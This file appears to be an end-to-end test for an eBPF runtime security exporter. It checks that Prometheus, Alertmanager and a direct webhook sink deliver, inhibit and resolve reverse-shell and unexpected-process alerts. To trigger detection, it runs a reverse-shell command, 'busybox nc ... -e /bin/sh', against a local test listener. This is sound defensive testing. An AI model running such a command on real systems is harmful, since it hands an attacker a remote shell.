import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingMessage, type Server as HttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FAST_CONFIG, DEFAULT_CONFIG, loadConfig, renderRulesYaml } from '../../alert-rules/src/index.js';
import { startAlertmanager, type AlertmanagerAlert, type AlertmanagerServer } from '../support/alertmanager.js';
import { createTestCgroup, type TestCgroup } from '../support/cgroup.js';
import { REPO_ROOT, startExporter, type RunningExporter } from '../support/exporter.js';
import { startPrometheus, type PrometheusServer } from '../support/prometheus.js';
import { waitFor } from '../support/wait-for.js';
import { startWebhookReceiver, type WebhookReceiver } from '../support/webhook-receiver.js';

/** The exporter's direct webhook sink posts `{version, findings: [...]}`; this records arrival times. */
interface DirectFinding {
  readonly kind: string;
  readonly rule: string | null;
  readonly item: string;
  readonly workload: string;
  readonly receivedAt: number;
}

async function startDirectReceiver(): Promise<{ url: string; findings: DirectFinding[]; close(): Promise<void> }> {
  const findings: DirectFinding[] = [];
  const server: HttpServer = createHttpServer((request: IncomingMessage, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      const receivedAt = Date.now();
      const payload = JSON.parse(body) as { findings: Array<Omit<DirectFinding, 'receivedAt'>> };
      for (const finding of payload.findings) findings.push({ ...finding, receivedAt });
      response.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return { url: `http://127.0.0.1:${port}/findings`, findings, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/**
 * Issue 4 end to end: the real exporter with real BPF, a real Prometheus scraping and
 * evaluating every second with the shipped rules (fast variant), the shipped example
 * Alertmanager config pointed at a webhook receiver, and the exporter's direct sink.
 */
describe('alerting end to end', () => {
  let work: string;
  let exporter: RunningExporter;
  let prometheus: PrometheusServer;
  let alertmanager: AlertmanagerServer;
  let receiver: WebhookReceiver;
  let direct: Awaited<ReturnType<typeof startDirectReceiver>>;
  let listener: Server;
  let listenerPort = 0;
  let cgroup: TestCgroup;
  let loop: Promise<unknown> | undefined;

  beforeAll(async () => {
    mkdirSync('/run/telltale-test', { recursive: true });
    work = mkdtempSync('/run/telltale-test/alerting-');
    listener = createServer((socket) => setTimeout(() => socket.destroy(), 500));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const address = listener.address();
    listenerPort = typeof address === 'object' && address ? address.port : 0;

    receiver = await startWebhookReceiver();
    direct = await startDirectReceiver();
    // The shipped example config, with its receivers pointed here and its waits shortened for a test.
    const example = readFileSync(join(REPO_ROOT, 'alert-rules/alertmanager/alertmanager.yml'), 'utf8')
      .replaceAll('http://alert-router.example.internal/hooks', `${receiver.url}/hooks`)
      .replace(/group_wait: \d+s/g, 'group_wait: 1s')
      .replace(/group_interval: \d+m/g, 'group_interval: 1s');
    alertmanager = await startAlertmanager({ configYaml: example });

    exporter = await startExporter({
      args: ['--learning-period', '15s', '--stable-after', '1h', '--epoch-interval', '1s', '--score-half-life', '5s', '--sink-webhook', direct.url, '--sink-dedup-window', '0'],
    });
    const rulesPath = join(work, 'telltale.rules.yaml');
    writeFileSync(rulesPath, renderRulesYaml(await loadConfig([DEFAULT_CONFIG, FAST_CONFIG])));
    prometheus = await startPrometheus({
      scrapeJobs: [{ jobName: 'telltale', targets: [exporter.url.replace('http://', '')], honorLabels: true }],
      ruleFiles: [rulesPath],
      alertmanagers: [alertmanager.address],
      scrapeInterval: '1s',
      evaluationInterval: '1s',
    });
    await prometheus.client.waitForTargetsHealthy('telltale');

    cgroup = createTestCgroup(`telltale-e2e-alerting-${process.pid}`);
    writeFileSync(join(work, 'app.conf'), 'x\n');
    loop = cgroup.run(`while [ ! -e '${work}/stop' ]; do cat '${work}/app.conf' > /dev/null; date > /dev/null; sleep 0.2; done`);
  });

  afterAll(async () => {
    writeFileSync(join(work, 'stop'), '');
    await loop;
    await prometheus?.stop();
    await alertmanager?.stop();
    await receiver?.close();
    await direct?.close();
    await exporter?.stop();
    await cgroup?.remove();
    listener?.close();
    rmSync(work, { recursive: true, force: true });
  });

  it('delivers the reverse shell and the novel binary as alerts with labels and items, then resolves them', async () => {
    await waitFor(
      async () => ((await prometheus.client.query(`telltale_profile_state{workload="${cgroup.workload}",state="ready"}`))[0]?.value === 1 ? true : undefined),
      { description: 'the workload profile to be ready, as Prometheus sees it', timeoutMs: 90_000, intervalMs: 500 },
    );

    const attackAt = Date.now();
    await cgroup.run(`busybox nc 127.0.0.1 ${listenerPort} -e /bin/sh; /usr/bin/id > /dev/null`);

    // Critical alerts page (security-pager) and continue to the owning team.
    const shellAlert = await receiver.waitFor(
      (webhook) =>
        webhook.path === '/hooks/security-pager' &&
        webhook.payload.status === 'firing' &&
        webhook.payload.alerts.some((a) => a.labels['alertname'] === 'TelltaleReverseShell' && a.labels['workload'] === cgroup.workload),
      'TelltaleReverseShell firing at the pager',
      60_000,
    );
    const viaPrometheusMs = shellAlert.receivedAt.getTime() - attackAt;
    const shell = shellAlert.payload.alerts.find((a) => a.labels['alertname'] === 'TelltaleReverseShell');
    await receiver.waitFor(
      (webhook) => webhook.path === '/hooks/security-team' && webhook.payload.alerts.some((a) => a.labels['alertname'] === 'TelltaleReverseShell'),
      'TelltaleReverseShell at the security team too',
      30_000,
    );
    expect(shell?.labels).toMatchObject({ severity: 'critical', rule: 'reverse-shell', workload: cgroup.workload, workload_type: 'cgroup', item: '/usr/bin/dash' });
    // Prometheus drops empty labels: standalone workloads have no namespace or container.
    expect(shell?.labels['namespace']).toBeUndefined();
    expect(shell?.labels['container']).toBeUndefined();
    expect(shell?.annotations['description']).toContain('/usr/bin/dash');
    expect(shell?.annotations['runbook_url']).toMatch(/alert-rules\/runbooks\/TelltaleReverseShell\.md$/);

    const deviation = await receiver.waitFor(
      (webhook) => webhook.payload.status === 'firing' && webhook.payload.alerts.some((a) => a.labels['alertname'] === 'TelltaleWorkloadDeviationHigh' && a.labels['workload'] === cgroup.workload),
      'TelltaleWorkloadDeviationHigh firing at the webhook',
      60_000,
    );
    const high = deviation.payload.alerts.find((a) => a.labels['alertname'] === 'TelltaleWorkloadDeviationHigh');
    expect(deviation.path).toBe('/hooks/security-team');
    expect(high?.labels).toMatchObject({ severity: 'warning', workload: cgroup.workload, workload_type: 'cgroup' });
    expect(high?.annotations['description']).toContain('/usr/bin/id');

    // The novel binary's own alert. The shipped config inhibits per-item alerts while the
    // workload's deviation alert fires (its description lists them instead), so Alertmanager
    // must hold TelltaleUnexpectedProcess for /usr/bin/id as suppressed, inhibited by exactly
    // that deviation alert. Whether it was notified before the deviation alert existed (the
    // per-item alert has no `for:`, the deviation alert does) is a race the config accepts,
    // so delivery is not asserted; the state while both fire is.
    const isProcessAlert = (a: AlertmanagerAlert): boolean =>
      a.labels['alertname'] === 'TelltaleUnexpectedProcess' && a.labels['workload'] === cgroup.workload && a.labels['item'] === '/usr/bin/id';
    const isDeviationAlert = (a: AlertmanagerAlert): boolean => a.labels['alertname'] === 'TelltaleWorkloadDeviationHigh' && a.labels['workload'] === cgroup.workload;
    const held = await alertmanager.waitForAlerts(
      (alerts) => alerts.some(isProcessAlert) && alerts.some(isDeviationAlert),
      'TelltaleUnexpectedProcess for /usr/bin/id and TelltaleWorkloadDeviationHigh both in Alertmanager',
      { timeoutMs: 30_000, intervalMs: 200 },
    );
    const processAlert = held.find(isProcessAlert);
    const deviationAlert = held.find(isDeviationAlert);
    expect(processAlert?.labels).toMatchObject({ severity: 'warning', workload_type: 'cgroup', category: 'exec', item: '/usr/bin/id' });
    expect(processAlert?.annotations['description']).toContain('/usr/bin/id');
    expect(processAlert?.annotations['runbook_url']).toMatch(/alert-rules\/runbooks\/TelltaleUnexpectedProcess\.md$/);
    expect(processAlert?.receivers).toEqual(['security-team']);
    expect(deviationAlert?.state).toBe('active');
    expect(processAlert?.state).toBe('suppressed');
    expect(processAlert?.inhibitedBy).toEqual([deviationAlert?.fingerprint]);

    // The direct sink: the rule hit arrives without Prometheus in the way.
    const directHit = await waitFor(() => direct.findings.find((f) => f.rule === 'reverse-shell' && f.workload === cgroup.workload), {
      description: 'the reverse shell at the direct webhook sink',
      timeoutMs: 20_000,
      intervalMs: 20,
    });
    const directMs = directHit.receivedAt - attackAt;
    expect(direct.findings.some((f) => f.kind === 'anomaly' && f.item === '/usr/bin/id')).toBe(true);
    console.log(`malicious exec -> alert at the receiver: via Prometheus (1 s scrape/eval) ${viaPrometheusMs} ms, via the direct sink ${directMs} ms`);

    for (const alertname of ['TelltaleReverseShell', 'TelltaleWorkloadDeviationHigh']) {
      await receiver.waitFor(
        (webhook) => webhook.payload.alerts.some((a) => a.labels['alertname'] === alertname && a.labels['workload'] === cgroup.workload && a.status === 'resolved'),
        `${alertname} resolved at the webhook`,
        120_000,
      );
    }
  });
});
